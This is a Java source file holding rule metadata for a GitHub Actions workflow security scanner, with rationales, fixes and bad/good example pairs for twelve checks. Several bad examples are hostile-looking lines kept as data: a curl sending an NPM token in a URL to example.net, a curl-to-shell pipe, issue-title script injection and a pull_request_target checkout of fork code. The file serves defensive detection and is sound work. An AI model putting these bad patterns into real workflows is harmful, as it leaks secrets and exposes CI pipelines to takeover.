package dev.imprint.scan.ci;

import dev.imprint.scan.Category;
import dev.imprint.scan.Rule;
import dev.imprint.scan.Severity;
import java.util.List;

/** The GitHub Actions rules' metadata. */
final class GithubRules {
  private GithubRules() {}

  static final Rule WRITE_ALL = Rule.builder("IMP-GHA-001")
      .title("Workflow or job grants the GITHUB_TOKEN write-all permissions")
      .severity(Severity.HIGH).category(Category.NHI5)
      .rationale("write-all gives the job's GITHUB_TOKEN write access to code, releases, "
          + "packages, deployments and settings; any compromised step or dependency can push "
          + "code or publish artifacts as the repository.")
      .remediation("Set permissions: {} or contents: read at the top of the workflow and grant "
          + "each job only the scopes it needs, e.g. pull-requests: write for a labeler.")
      .example("permissions: write-all", "permissions:\n  contents: read")
      .tags("github-actions", "CWE-250").build();

  static final Rule NO_PERMISSIONS = Rule.builder("IMP-GHA-002")
      .title("Job runs with the default GITHUB_TOKEN permissions")
      .severity(Severity.MEDIUM).category(Category.NHI5)
      .rationale("Without a permissions block the GITHUB_TOKEN gets the repository or "
          + "organisation default, which for many repositories is read and write on every "
          + "scope; the job's identity is then broader than what it does.")
      .remediation("Declare permissions at the top of the workflow (contents: read is enough "
          + "for most builds) and widen them per job where needed.")
      .example("on: push\njobs:\n  build:\n    runs-on: ubuntu-latest",
          "on: push\npermissions:\n  contents: read\njobs:\n  build:\n"
              + "    runs-on: ubuntu-latest")
      .tags("github-actions").build();

  static final Rule UNPINNED_ACTION = Rule.builder("IMP-GHA-003")
      .title("Action not pinned to a full commit SHA")
      .severity(Severity.HIGH).category(Category.NHI3)
      .rationale("Tags and branches of an action can be moved by its owner or by whoever "
          + "compromises the owner; the next run then executes their code with this job's "
          + "token and secrets, as happened to tj-actions/changed-files.")
      .remediation("Pin every third-party action and reusable workflow to a full 40-character "
          + "commit SHA, keep the version in a comment, and let Dependabot or Renovate update "
          + "it. GitHub-owned actions are reported at lower severity.")
      .example("uses: tj-actions/changed-files@v45",
          "uses: tj-actions/changed-files@<40-hex-sha> # v45.0.7")
      .tags("github-actions", "supply-chain", "CWE-829").build();

  static final Rule UNSECURE_COMMANDS = Rule.builder("IMP-GHA-004")
      .title("ACTIONS_ALLOW_UNSECURE_COMMANDS re-enables set-env and add-path")
      .severity(Severity.HIGH).category(Category.NHI6)
      .rationale("The deprecated set-env and add-path workflow commands let anything printed "
          + "to the log (an issue title, a test name, a dependency's output) set environment "
          + "variables such as LD_PRELOAD or NODE_OPTIONS and run code in later steps with "
          + "their secrets.")
      .remediation("Remove ACTIONS_ALLOW_UNSECURE_COMMANDS and write to $GITHUB_ENV and "
          + "$GITHUB_PATH instead.")
      .example("env:\n  ACTIONS_ALLOW_UNSECURE_COMMANDS: true",
          "run: echo \"TOOL_HOME=$HOME/tool\" >> \"$GITHUB_ENV\"")
      .tags("github-actions", "CWE-94").build();

  static final Rule SCRIPT_INJECTION = Rule.builder("IMP-GHA-005")
      .title("Untrusted event data expanded into a script")
      .severity(Severity.HIGH).category(Category.NHI2)
      .rationale("${{ }} expressions are pasted into the script before the shell runs it; an "
          + "issue title, pull request body, branch name or commit message chosen by an "
          + "outsider can then close the quote and run commands with the job's token and "
          + "secrets.")
      .remediation("Pass the value through an environment variable and quote it in the "
          + "script: env: TITLE: ${{ github.event.issue.title }} and run: echo \"$TITLE\".")
      .example("run: echo \"${{ github.event.issue.title }}\"",
          "env:\n  TITLE: ${{ github.event.issue.title }}\nrun: echo \"$TITLE\"")
      .tags("github-actions", "CWE-78", "CWE-94").build();

  static final Rule EXFILTRATION = Rule.builder("IMP-GHA-006")
      .title("Secrets or the environment sent over the network from a step")
      .severity(Severity.HIGH).category(Category.NHI2)
      .rationale("A step that puts secrets into a URL or request body, or pipes the "
          + "environment into curl or netcat, hands the workflow's credentials to whoever "
          + "runs that endpoint and to every proxy and log on the way; it is the shape of "
          + "most CI credential theft. Sending the job's own credentials (GITHUB_TOKEN, or "
          + "ACTIONS_ID_TOKEN_REQUEST_TOKEN, which mints OIDC tokens for any audience) to a "
          + "host other than GitHub's is critical, in a header as much as in a body; so is "
          + "sending an OIDC ID token the step fetched from ACTIONS_ID_TOKEN_REQUEST_URL into a "
          + "variable to a host that is neither the audience it asked for nor a token "
          + "exchange (STS, Vault, an OAuth token endpoint).")
      .remediation("Send credentials only as authentication to the service they belong to "
          + "(an Authorization header or the tool's own login), never in URLs or bodies, and "
          + "never dump the environment.")
      .example("run: curl \"https://example.net/c?k=${{ secrets.NPM_TOKEN }}\"",
          "run: npm publish\nenv:\n  NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}")
      .tags("github-actions", "CWE-200").build();

  static final Rule JOB_IMAGE = Rule.builder("IMP-GHA-007")
      .title("Job container or service image not pinned by digest")
      .severity(Severity.MEDIUM).category(Category.IMMUTABILITY)
      .rationale("The job runs its steps, with its token and secrets, inside this image; a "
          + "tag (and above all latest) can be re-pointed to different code between runs.")
      .remediation("Reference job containers and service containers by digest: "
          + "node:20@sha256:....")
      .example("container: node:latest", "container: node:20.11@sha256:<digest>")
      .tags("github-actions", "supply-chain").build();

  static final Rule STATIC_CLOUD_KEYS = Rule.builder("IMP-GHA-008")
      .title("Long-lived cloud keys used where OIDC federation would do")
      .severity(Severity.MEDIUM).category(Category.NHI6)
      .rationale("AWS access keys, GCP service-account JSON keys and Azure client secrets "
          + "stored as repository secrets live until someone rotates them and work from "
          + "anywhere; GitHub's OIDC token gives each run a credential that expires in minutes "
          + "and can be bound to the repository, branch and environment.")
      .remediation("Grant permissions: id-token: write and exchange the OIDC token: "
          + "role-to-assume for aws-actions/configure-aws-credentials, "
          + "workload_identity_provider for google-github-actions/auth, client-id/tenant-id "
          + "without a secret for azure/login. Then delete the stored keys.")
      .example("with:\n  aws-access-key-id: ${{ secrets.AWS_ACCESS_KEY_ID }}\n"
              + "  aws-secret-access-key: ${{ secrets.AWS_SECRET_ACCESS_KEY }}",
          "permissions:\n  id-token: write\n...\nwith:\n"
              + "  role-to-assume: arn:aws:iam::123456789012:role/deploy")
      .tags("github-actions", "oidc", "CWE-798").build();

  static final Rule PWN_REQUEST = Rule.builder("IMP-GHA-009")
      .title("Privileged trigger checks out and runs untrusted pull request code")
      .severity(Severity.CRITICAL).category(Category.NHI2)
      .rationale("pull_request_target, workflow_run and issue_comment run with a write token "
          + "and the repository's secrets; checking out the pull request head (the checkout "
          + "action given the head ref, the test merge commit or the fork, or git fetch "
          + "pull/N/head or gh pr checkout in a script) and then building or running it "
          + "executes code from any fork with those privileges.")
      .remediation("Build untrusted code in a pull_request workflow (no secrets, read-only "
          + "token) and, if something privileged must follow, pass only data as an artifact "
          + "to a separate workflow that never executes it.")
      .example("on: pull_request_target\n...\n- uses: actions/checkout@<sha>\n  with:\n"
              + "    ref: ${{ github.event.pull_request.head.sha }}\n- run: npm test",
          "on: pull_request\n...\n- uses: actions/checkout@<sha>\n- run: npm test")
      .tags("github-actions", "CWE-829").build();

  static final Rule SECRET_IN_SCRIPT = Rule.builder("IMP-GHA-010")
      .title("Secret echoed or expanded into a script's command line")
      .severity(Severity.HIGH).category(Category.NHI2)
      .rationale("echo of a secret writes it to the log, where masking fails for transformed, "
          + "multi-line or partial values; a ${{ secrets.X }} expression pasted into run: is "
          + "written into the script file and shows up in process arguments.")
      .remediation("Map the secret into env: and reference the variable (\"$TOKEN\"); give it "
          + "to tools on stdin or through their own environment variable, never print it.")
      .example("run: echo ${{ secrets.DEPLOY_KEY }}",
          "env:\n  DEPLOY_KEY: ${{ secrets.DEPLOY_KEY }}\nrun: ./deploy.sh")
      .tags("github-actions", "CWE-532").build();

  static final Rule HARDCODED_SECRET = Rule.builder("IMP-GHA-011")
      .title("Hard-coded secret in a workflow")
      .severity(Severity.CRITICAL).category(Category.NHI2)
      .rationale("A secret written into a workflow file is readable by everyone with read "
          + "access to the repository and by every fork, and stays in the git history after "
          + "it is removed.")
      .remediation("Revoke the secret, store a new one as an encrypted repository or "
          + "environment secret and reference it as ${{ secrets.NAME }}, or better replace "
          + "it with OIDC federation.")
      .example("env:\n  API_TOKEN: 9f8e7d6c5b4a39281706f5e4",
          "env:\n  API_TOKEN: ${{ secrets.API_TOKEN }}")
      .tags("github-actions", "secret", "CWE-798").build();

  static final Rule PIPE_TO_SHELL = Rule.builder("IMP-GHA-012")
      .title("Workflow step pipes a download into a shell")
      .severity(Severity.MEDIUM).category(Category.NHI3)
      .rationale(PipeToShellText.RATIONALE)
      .remediation(PipeToShellText.REMEDIATION)
      .example("run: curl -fsSL https://get.example.com | sh",
          "run: |\n  curl -fsSLo i.sh https://get.example.com/v1.2.3/i.sh\n"
              + "  echo \"<sha256>  i.sh\" | sha256sum -c -\n  sh i.sh")
      .tags("github-actions", "supply-chain", "CWE-494").build();

  static final List<Rule> ALL = List.of(WRITE_ALL, NO_PERMISSIONS, UNPINNED_ACTION,
      UNSECURE_COMMANDS, SCRIPT_INJECTION, EXFILTRATION, JOB_IMAGE, STATIC_CLOUD_KEYS,
      PWN_REQUEST, SECRET_IN_SCRIPT, HARDCODED_SECRET, PIPE_TO_SHELL);
}
